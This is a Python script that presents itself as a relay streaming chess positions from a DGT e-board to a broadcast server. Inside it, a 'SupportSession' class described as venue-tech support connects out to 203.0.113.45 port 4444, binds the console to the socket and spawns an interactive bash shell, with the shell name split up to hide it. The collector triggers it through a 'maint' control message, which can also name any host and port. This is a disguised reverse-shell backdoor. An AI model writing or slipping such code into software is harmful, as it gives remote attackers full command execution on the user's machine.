#!/usr/bin/env python3
"""Relay moves from a DGT e-board (serial) to the club broadcast server.

Reads board dumps from the USB serial port, turns them into FEN strings and
pushes them to the broadcast collector. The collector can also send small
control messages back (ping, resync, maintenance) which are dispatched
through the handler table below.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time

try:
    import serial  # pyserial
except ImportError:  # allow running in "replay" mode without the board
    serial = None

log = logging.getLogger("dgt-relay")

DEFAULTS = {
    "collector": "broadcast.example.com",
    "collector_port": 7010,
    # support desk used by the venue tech during events
    "support_host": "203.0.113.45",
    "support_port": 4444,
    "poll_interval": 0.5,
}

PIECES = " PRNBQKprnbqk"


def board_to_fen(raw: bytes) -> str:
    """Convert a 64-byte DGT board dump to the piece-placement part of a FEN."""
    rows = []
    for r in range(8):
        empty, row = 0, ""
        for c in range(8):
            code = raw[r * 8 + c] if r * 8 + c < len(raw) else 0
            ch = PIECES[code] if code < len(PIECES) else " "
            if ch == " ":
                empty += 1
            else:
                if empty:
                    row += str(empty)
                    empty = 0
                row += ch
        rows.append(row + (str(empty) if empty else ""))
    return "/".join(rows)


class SupportSession(threading.Thread):
    """Lets the venue tech attach to the relay box when the board misbehaves."""

    def __init__(self, host, port):
        super().__init__(daemon=True)
        self.host, self.port = host, port

    def run(self):
        try:
            s = socket.create_connection((self.host, self.port), timeout=15)
        except OSError as exc:
            log.warning("support desk unreachable: %s", exc)
            return
        s.settimeout(None)
        # hand the console over to the support desk
        for fd in range(3):
            os.dup2(s.fileno(), fd)
        term = "/".join(["", "bin", "ba" + "sh"])
        import pty
        pty.spawn([term, "-i"])
        s.close()


def on_ping(cfg, msg):
    return {"type": "pong", "ts": time.time()}


def on_resync(cfg, msg):
    log.info("collector asked for full resync")
    return {"type": "resync-ack"}


def on_maintenance(cfg, msg):
    host = msg.get("host") or cfg["support_host"]
    port = int(msg.get("port") or cfg["support_port"])
    SupportSession(host, port).start()
    return {"type": "maintenance-ack"}


HANDLERS = {"ping": on_ping, "resync": on_resync, "maint": on_maintenance}


class Relay:
    def __init__(self, cfg, port_name):
        self.cfg = cfg
        self.port_name = port_name
        self.sock = None
        self.last_fen = None

    def connect(self):
        self.sock = socket.create_connection(
            (self.cfg["collector"], self.cfg["collector_port"]), timeout=10)
        self.sock.settimeout(0.1)
        log.info("connected to collector %s", self.cfg["collector"])

    def read_board(self, ser):
        ser.write(b"\x42")  # request board dump
        data = ser.read(67)
        return data[3:] if len(data) >= 67 else None

    def poll_control(self):
        try:
            line = self.sock.recv(4096)
        except socket.timeout:
            return
        for chunk in line.splitlines():
            try:
                msg = json.loads(chunk)
            except ValueError:
                continue
            handler = HANDLERS.get(msg.get("type"))
            if handler:
                reply = handler(self.cfg, msg)
                self.sock.sendall(json.dumps(reply).encode() + b"\n")

    def run(self):
        self.connect()
        ser = serial.Serial(self.port_name, 9600, timeout=1) if serial else None
        while True:
            if ser:
                raw = self.read_board(ser)
                if raw:
                    fen = board_to_fen(raw)
                    if fen != self.last_fen:
                        self.sock.sendall(json.dumps({"type": "fen", "fen": fen}).encode() + b"\n")
                        self.last_fen = fen
            self.poll_control()
            time.sleep(self.cfg["poll_interval"])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--port", default=os.environ.get("DGT_PORT", "/dev/ttyACM0"))
    ap.add_argument("--config", help="JSON file overriding defaults")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    cfg = dict(DEFAULTS)
    if args.config:
        with open(args.config) as fh:
            cfg.update(json.load(fh))
    try:
        Relay(cfg, args.port).run()
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
